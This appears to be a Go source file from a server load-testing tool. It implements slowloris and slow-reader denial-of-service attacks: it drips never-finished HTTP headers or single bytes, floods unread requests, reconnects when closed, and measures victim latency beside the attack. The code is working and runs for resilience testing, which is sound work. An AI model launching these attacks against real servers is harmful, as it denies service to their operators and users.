package load

import (
	"context"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/HdrHistogram/hdrhistogram-go"
)

// The kinds of attacks.
const (
	SlowReader = "slow-reader" // asks as fast as the server takes it, and reads nothing
	Slowloris  = "slowloris"   // begins a request and sends the rest of it in single pieces
)

// AttackOptions say what attack to make, and which victims to measure beside it.
type AttackOptions struct {
	Options          // of the victims
	Kind      string // SlowReader or Slowloris
	Attackers int
	Every     time.Duration // of Slowloris: between two pieces
}

// dripping are the protocols in which a request can be half sent.
var dripping = []string{"http", "line", "frame", "rpc", "ws"}

// Check reports the first option that is out of range.
func (o AttackOptions) Check() error {
	if o.Attackers < 1 || o.Attackers > MaxConns {
		return fmt.Errorf("--attackers %d is out of range: use 1 to %d", o.Attackers, MaxConns)
	}
	if o.Kind == Slowloris && !slices.Contains(dripping, o.Protocol) {
		return fmt.Errorf("--protocol %q knows no unfinished request: use %s", o.Protocol, strings.Join(dripping, ", "))
	}
	if o.Kind == Slowloris && (o.Every <= 0 || o.Every > time.Hour) {
		return fmt.Errorf("--every %v is out of range: use more than 0s and at most 1h", o.Every)
	}
	return o.Options.Check()
}

// Assault is what became of the attackers. When a connection ends, its attacker makes another one.
type Assault struct {
	Opened   int64
	Rejected int64                   // attempts without a connection or handshake
	Closed   int64                   // by the server
	Ends     map[string]int64        // of those that Closed counts, by kind
	Lived    *hdrhistogram.Histogram // how long those lived, in nanoseconds
	Paused   int64                   // open at the end, and the server has taken nothing for a while
	Taking   int64                   // open at the end, and the server takes what is sent
	Sent     int64                   // bytes that the server, or the buffers on the way to it, took
}

// pausedFor is how long the server must have taken nothing from an attacker to count as paused.
const pausedFor = time.Second

// againAfter is how long an attacker waits before its next connection.
const againAfter = 100 * time.Millisecond

// Attack measures victims undisturbed for the duration, and as long again beside the attackers. Victims that cannot even
// connect beside them are a result, not an error. progress, if not nil, is called once a second.
func Attack(ctx context.Context, o AttackOptions, progress func(*Result, *Assault)) (undisturbed, disturbed *Result, assault *Assault, err error) {
	if err := o.Check(); err != nil {
		return nil, nil, nil, err
	}
	told := func(a *attack) func(*Result) {
		if progress == nil {
			return nil
		}
		return func(r *Result) { progress(r, a.look()) }
	}
	if undisturbed, err = Run(ctx, o.Options, told(nil)); err != nil {
		return nil, nil, nil, err
	}
	a := newAttack(o)
	within, cancel := context.WithCancel(ctx)
	var attackers sync.WaitGroup
	for range o.Attackers {
		attackers.Go(func() { a.attacker(within) })
	}
	end := time.Now().Add(o.Warmup + o.Duration)
	if disturbed, err = Run(ctx, o.Options, told(a)); err != nil {
		g := newGenerator(o.Options)
		g.faults.add(err)
		disturbed = g.result(0)
	}
	sleep(ctx, time.Until(end)) // victims may have ended before
	cancel()
	attackers.Wait()
	return undisturbed, disturbed, a.look(), nil
}

// attack is the state of a running attack.
type attack struct {
	AttackOptions
	g *generator

	mu sync.Mutex
	Assault
}

func newAttack(o AttackOptions) *attack {
	of := o.Options
	of.InFlight, of.Rate = 1, 0
	if o.Kind == SlowReader {
		of.InFlight = max(1, floodChunk/max(o.Size, 1))
	}
	return &attack{AttackOptions: o, g: newGenerator(of), Assault: Assault{Ends: map[string]int64{}, Lived: NewHistogram()}}
}

// floodChunk is about how many bytes of requests a slow reader sends at once.
const floodChunk = 16 << 10

// look returns the state now, nil if a is nil.
func (a *attack) look() *Assault {
	if a == nil {
		return nil
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	now := a.Assault
	now.Ends, now.Lived = map[string]int64{}, NewHistogram()
	for kind, n := range a.Ends {
		now.Ends[kind] = n
	}
	now.Lived.Merge(a.Lived)
	return &now
}

// attacker makes one connection after the other until ctx ends.
func (a *attack) attacker(ctx context.Context) {
	for ctx.Err() == nil {
		c, err := a.g.dial(ctx)
		if err != nil {
			if ctx.Err() == nil {
				a.count(&a.Rejected, 1)
			}
			sleep(ctx, againAfter)
			continue
		}
		a.count(&a.Opened, 1)
		a.connection(ctx, c)
		sleep(ctx, againAfter)
	}
}

func (a *attack) count(what *int64, n int) {
	a.mu.Lock()
	defer a.mu.Unlock()
	*what += int64(n)
}

// connection uses one connection until the server or ctx ends it.
func (a *attack) connection(ctx context.Context, c *conn) {
	defer c.Close()
	defer context.AfterFunc(ctx, func() { _ = c.SetDeadline(time.Now()) })() // the connection ends by its deadline, or has ended
	c.reset()
	from := time.Now()
	var err error
	taken := from // when the server last took something
	if a.Kind == SlowReader {
		taken, err = a.flood(ctx, c)
	} else {
		err = a.drip(ctx, c)
	}
	if ctx.Err() != nil {
		open := &a.Taking
		if a.Kind == SlowReader && time.Since(taken) >= pausedFor {
			open = &a.Paused
		}
		a.count(open, 1)
		return
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	a.Closed++
	a.Ends[kindOf(closedByServer(err))]++
	record(a.Lived, time.Since(from))
}

// flood sends requests until that fails, and returns when a write last succeeded.
func (a *attack) flood(ctx context.Context, c *conn) (taken time.Time, err error) {
	if tcp, ok := c.raw.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4 << 10) // a small one fills soon; a larger one only takes longer
	}
	taken = time.Now()
	out := c.requests(a.g.InFlight)
	f, known := c.protocol.(*frames)
	for id := 0; ctx.Err() == nil; {
		if known { // the same id twice is a mistake that a server may answer by closing
			out = out[:0]
			for range a.g.InFlight {
				out = f.appendRequest(out, id)
				id++
			}
		}
		n, err := c.Write(out)
		a.count(&a.Sent, n)
		if err != nil {
			return taken, err
		}
		taken = time.Now()
	}
	return taken, ctx.Err()
}

// drip sends a request piece by piece, never the last piece, until the server ends the connection.
func (a *attack) drip(ctx context.Context, c *conn) error {
	ended, readErr := make(chan struct{}), error(nil)
	go func() {
		defer close(ended)
		if _, readErr = io.Copy(io.Discard, c.Conn); readErr == nil {
			readErr = io.EOF
		}
	}()
	defer func() {
		c.Close()
		<-ended
	}()
	next := a.pieces(c)
	tick := time.NewTicker(a.Every)
	defer tick.Stop()
	for {
		if piece := next(); len(piece) > 0 {
			n, err := c.Write(piece)
			a.count(&a.Sent, n)
			if err != nil {
				return err
			}
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
			return ctx.Err()
		case <-ended:
			return readErr
		}
	}
}

// pieces returns a function that gives one part of a request after the other. The parts are header lines without end, or
// single bytes up to the last but one.
func (a *attack) pieces(c *conn) func() []byte {
	if a.Protocol == "http" {
		n := -1
		return func() []byte {
			if n++; n == 0 {
				return fmt.Appendf(nil, "GET / HTTP/1.1\r\nHost: %s\r\n", a.Addr)
			}
			return fmt.Appendf(nil, "X-%d: a\r\n", n)
		}
	}
	left := c.requests(1)
	return func() []byte {
		if len(left) < 2 {
			return nil
		}
		piece := left[:1]
		left = left[1:]
		return piece
	}
}
